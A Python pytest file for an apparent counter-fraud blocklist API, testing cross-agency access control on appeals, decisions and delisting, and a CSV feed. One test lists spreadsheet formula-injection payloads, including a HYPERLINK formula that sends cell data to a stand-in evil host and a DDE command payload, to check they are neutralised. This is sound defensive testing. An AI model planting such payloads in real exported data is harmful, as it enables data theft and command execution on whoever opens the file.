"""Appeals, decisions and delisting over HTTP: owning agency × calling key × marking.

404 when the caller may not see the entry (an appeal against it is answered exactly as
one against nothing), 403 when it may see the entry but does not own it or its key's role
does not allow the change; appeals are listed only to the owning agency. CN shares its
GREEN records (conftest) and, here, its AMBER blocklist entries with TH; TH shares nothing.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from test_api_server import running_server, server_env

from counterfraud.domain import ApiRole, Marking
from counterfraud.services import agreements, blocklist
from counterfraud.services.store import Store, open_store

CN, TH = "CN-MPS", "TH-CCIB"
OWNERS: list[str | None] = [CN, TH, None]
KEYS = [f"{a}:{r.value}" for a in (CN, TH) for r in ApiRole]
SEES = {CN: {CN: set(Marking), TH: {Marking.CLEAR, Marking.GREEN, Marking.AMBER}},
        TH: {TH: set(Marking), CN: {Marking.CLEAR}},
        None: {CN: {Marking.CLEAR, Marking.GREEN}, TH: {Marking.CLEAR, Marking.GREEN}}}
APPEAL = {"contact": "owner@example.com", "statement": "this is my pharmacy's number"}


class Seeder:
    """Lists entries straight through the services, as the instance's operator would."""

    def __init__(self, store: Store) -> None:
        self.store = store
        self.numbers = itertools.count(1)

    def entry(self, owner: str | None, marking: Marking) -> dict[str, Any]:
        target = blocklist.parse_target("phone", f"+8616{next(self.numbers):09d}")
        listed = blocklist.add_entry(self.store, target, actor="setup", reason="in reports",
                                     agency=owner, marking=marking)
        return listed.as_dict()

    def appeal(self, entry: dict[str, Any]) -> int:
        return blocklist.appeal(self.store, entry_id=entry["id"], contact=APPEAL["contact"],
                                statement=APPEAL["statement"]).id

    def status(self, entry_id: int) -> str:
        return blocklist.entry(self.store, entry_id)[0].status.value


@pytest.fixture(scope="module")
def seeder(shared_world: Any) -> Iterator[Seeder]:
    store = open_store(shared_world.settings)
    agreements.add_agreement(store, grantor=CN, grantee=TH, markings=["amber"],
                             record_types=["blocklist_entry"], purpose="joint interception",
                             legal_basis="bilateral_mou")
    yield Seeder(store)
    store.close()


def _agency(key: str) -> str:
    return key.partition(":")[0]


def _role(key: str) -> str:
    return key.partition(":")[2]


def _expected_change(key: str, owner: str | None, marking: Marking) -> int:
    agency = _agency(key)
    if _role(key) == ApiRole.OPERATOR.value:
        return 403
    if marking not in SEES[owner][agency]:
        return 404
    return 200 if agency == owner else 403


matrix = pytest.mark.parametrize(
    ("owner", "key", "marking"),
    [pytest.param(o, k, m, id=f"{o or 'operator'}-entry-{m.name}-by-{k}")
     for o in OWNERS for k in KEYS for m in Marking])


@matrix
def test_appeal(shared_client: TestClient, shared_world: Any, seeder: Seeder,
                owner: str | None, key: str, marking: Marking) -> None:
    entry = seeder.entry(owner, marking)
    headers = shared_world.key(key)
    by_id = shared_client.post("/v1/appeals", headers=headers,
                               json={"entry_id": entry["id"], **APPEAL})
    by_value = shared_client.post("/v1/appeals", headers=headers,
                                  json={"kind": "phone", "value": entry["value"], **APPEAL})
    if marking in SEES[owner][_agency(key)]:
        assert (by_id.status_code, by_value.status_code) == (201, 201), by_id.text
        return
    nothing = shared_client.post("/v1/appeals", headers=headers,
                                 json={"kind": "phone", "value": "+8616999999999", **APPEAL})
    no_id = shared_client.post("/v1/appeals", headers=headers,
                               json={"entry_id": 10**9, **APPEAL})
    assert nothing.status_code == 404
    for response in (by_id, by_value, no_id):
        assert (response.status_code, response.json()) == (404, nothing.json())


@matrix
def test_list_appeals(shared_client: TestClient, shared_world: Any, seeder: Seeder,
                      owner: str | None, key: str, marking: Marking) -> None:
    appeal_id = seeder.appeal(seeder.entry(owner, marking))
    response = shared_client.get("/v1/appeals", headers=shared_world.key(key))
    if _role(key) == ApiRole.OPERATOR.value:
        assert response.status_code == 403
        return
    assert response.status_code == 200, response.text
    listed = {a["id"]: a for a in response.json()}
    assert (appeal_id in listed) is (_agency(key) == owner)
    assert all(a["contact"] == APPEAL["contact"] for a in listed.values())


@matrix
def test_decide(shared_client: TestClient, shared_world: Any, seeder: Seeder,
                owner: str | None, key: str, marking: Marking) -> None:
    entry = seeder.entry(owner, marking)
    appeal_id = seeder.appeal(entry)
    response = shared_client.post(f"/v1/appeals/{appeal_id}/decision",
                                  headers=shared_world.key(key),
                                  json={"uphold": True, "reason": "verified pharmacy"})
    expected = _expected_change(key, owner, marking)
    assert response.status_code == expected, response.text
    if expected == 404:
        nothing = shared_client.post(f"/v1/appeals/{10**9}/decision",
                                     headers=shared_world.key(key),
                                     json={"uphold": True, "reason": "r"})
        assert response.json()["detail"].replace(str(appeal_id), "N") == \
            nothing.json()["detail"].replace(str(10**9), "N")
    assert seeder.status(entry["id"]) == ("delisted" if expected == 200 else "active")


@matrix
def test_delist(shared_client: TestClient, shared_world: Any, seeder: Seeder,
                owner: str | None, key: str, marking: Marking) -> None:
    entry = seeder.entry(owner, marking)
    response = shared_client.post(f"/v1/blocklist/{entry['id']}/delist",
                                  headers=shared_world.key(key), json={"reason": "mine"})
    expected = _expected_change(key, owner, marking)
    assert response.status_code == expected, response.text
    assert seeder.status(entry["id"]) == ("delisted" if expected == 200 else "active")


def test_another_agencys_entry_is_neither_relisted_nor_shown(
        shared_client: TestClient, shared_world: Any, seeder: Seeder) -> None:
    """Adding a target another agency has listed must not hand back its entry (reason,
    marking, provenance) nor relist it when its owner delisted it."""
    red = seeder.entry(CN, Marking.RED)
    amber = seeder.entry(CN, Marking.AMBER)
    for entry in (red, amber):
        blocklist.delist(seeder.store, entry["id"], actor="CN", reason="number reassigned")
        response = shared_client.post("/v1/blocklist", headers=shared_world.key(f"{TH}:analyst"),
                                      json={"kind": "phone", "value": entry["value"],
                                            "reason": "seen in a scam"})
        assert response.status_code in (403, 409), response.text
        assert "TLP" not in response.text and "in reports" not in response.text
        assert seeder.status(entry["id"]) == "delisted"


@pytest.mark.parametrize("reason", [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"],
    ids=["equals", "plus-dde", "minus", "at", "tab", "carriage-return"])
def test_the_csv_feed_is_safe_to_open_in_a_spreadsheet(
        shared_client: TestClient, shared_world: Any, seeder: Seeder, reason: str) -> None:
    target = blocklist.parse_target("phone", f"+8615{next(seeder.numbers):09d}")
    blocklist.add_entry(seeder.store, target, actor="setup", reason=reason, agency=CN,
                        marking=Marking.CLEAR)
    response = shared_client.get("/v1/blocklist/feed", params={"format": "csv"},
                                 headers=shared_world.key(f"{TH}:operator"))
    [row] = [r for r in csv.DictReader(io.StringIO(response.text))
             if r["value"] == target.value]
    assert row["reason"] == "'" + reason


@pytest.mark.server
def test_the_security_review_over_a_real_server(shared_world: Any, seeder: Seeder,
                                                tmp_path: Path) -> None:
    """The reported cases, end to end over real HTTP on uvicorn."""
    red = seeder.entry(CN, Marking.RED)
    amber = seeder.entry(CN, Marking.AMBER)
    th = {"X-API-Key": shared_world.keys[f"{TH}:analyst"]}
    cn = {"X-API-Key": shared_world.keys[f"{CN}:analyst"]}
    with running_server(server_env(shared_world.settings), tmp_path / "uvicorn.log",
                        workers=1) as (url, _), httpx.Client(base_url=url, timeout=60) as http:
        oracle = http.post("/v1/appeals", headers=th, json={"entry_id": red["id"], **APPEAL})
        nothing = http.post("/v1/appeals", headers=th, json={"entry_id": 10**9, **APPEAL})
        assert (oracle.status_code, oracle.json()) == (404, nothing.json())
        filed = http.post("/v1/appeals", headers=th, json={"entry_id": amber["id"], **APPEAL})
        assert filed.status_code == 201
        assert filed.json()["id"] not in {a["id"] for a in http.get("/v1/appeals",
                                                                     headers=th).json()}
        assert http.post(f"/v1/appeals/{filed.json()['id']}/decision", headers=th,
                         json={"uphold": True, "reason": "x"}).status_code == 403
        assert http.post(f"/v1/blocklist/{amber['id']}/delist", headers=th,
                         json={"reason": "x"}).status_code == 403
        assert seeder.status(amber["id"]) == "active"
        assert filed.json()["id"] in {a["id"] for a in http.get("/v1/appeals",
                                                                 headers=cn).json()}
        assert http.post(f"/v1/appeals/{filed.json()['id']}/decision", headers=cn,
                         json={"uphold": True, "reason": "verified"}).status_code == 200
    assert seeder.status(amber["id"]) == "delisted"
